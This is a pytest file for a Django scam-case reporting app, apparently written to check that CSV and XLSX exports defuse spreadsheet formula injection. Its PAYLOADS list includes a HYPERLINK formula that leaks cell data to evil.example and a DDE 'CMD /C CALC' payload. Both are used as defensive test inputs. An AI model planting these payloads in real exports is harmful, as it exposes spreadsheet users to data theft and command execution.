"""Exports cannot attack the reader: a text cell that a spreadsheet would run as a formula
is neutralised in every CSV (a leading apostrophe, OWASP) and is a string cell in the XLSX."""

from __future__ import annotations

import openpyxl
import pytest
from django.urls import reverse

from cases.models import Case, ScammerIdentifier
from reports import services
from reports.exports import neutralise
from reports.filters import ReportFilterForm

MARCH = {"period": "custom", "date_from": "2026-03-01", "date_to": "2026-03-31"}
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Открыть")',
    "=1+1",
    "@SUM(1+1)",
    "-2+3+CMD|' /C CALC'!A0",
    "+7 916 =1",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_prefixes_every_formula_start_and_leaves_other_text(payload):
    assert neutralise(payload) == "'" + payload
    assert neutralise("Звонили из банка") == "Звонили из банка"
    assert neutralise("") == ""


@pytest.fixture
def hostile(dataset):
    """Every payload as a case summary in March (and the first as a subscriber's name)."""
    case = dataset.cases["c1"]
    Case.objects.filter(pk=case.pk).update(summary=PAYLOADS[0])
    case.subscriber.name = PAYLOADS[2]
    case.subscriber.save()
    for i, payload in enumerate(PAYLOADS[1:], start=2):
        name = {2: "c2", 3: "c3", 4: "c4", 5: "c7"}.get(i)
        if name:
            Case.objects.filter(pk=dataset.cases[name].pk).update(summary=payload)
    return dataset


def _csv_lines(client, **params) -> list[str]:
    response = client.get(reverse("reports:export_cases_csv"), {**MARCH, **params})
    return b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff").split("\n")


@pytest.mark.parametrize("unmasked", [False, True])
def test_no_cell_of_the_cases_csv_starts_a_formula(client, manager, hostile, unmasked):
    if unmasked:
        from django.contrib.auth.models import Permission

        manager.user_permissions.add(Permission.objects.get(codename="export_unmasked"))
    client.force_login(manager)
    lines = _csv_lines(client, columns=["number", "phone", "subscriber_name", "summary"])
    cells = [cell.strip('"') for line in lines[1:] if line for cell in line.split(";")]
    assert cells, "the export has rows"
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    text = "\n".join(lines)
    assert "'=HYPERLINK(" in text and "'-2+3+CMD" in text


def test_the_report_table_csv_neutralises_sender_names(client, supervisor, hostile):
    ScammerIdentifier.objects.filter(kind="sender").update(value="=1+1")
    client.force_login(supervisor)
    url = reverse("reports:export_table_csv", kwargs={"table": "top_senders"})
    text = client.get(url, MARCH).content.decode()
    assert "'=1+1" in text and "\n=1+1" not in text and ";=1+1" not in text


def test_the_xlsx_writes_formula_text_as_plain_strings(manager, hostile, settings, tmp_path):
    settings.EXPORT_DIR = tmp_path
    form = ReportFilterForm(MARCH)
    assert form.is_valid()
    job = services.export_xlsx_request(
        owner=manager, f=form.report_filter(), columns=["number", "subscriber_name", "summary"]
    )
    done = services.export_build_xlsx(job_id=job.pk)
    sheet = openpyxl.load_workbook(tmp_path / done.file_path).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value]
    assert cells and all(c.data_type == "s" for c in cells), [
        (c.value, c.data_type) for c in cells if c.data_type != "s"
    ]
    assert any(c.value == PAYLOADS[0] for c in cells)  # the text itself, as a string
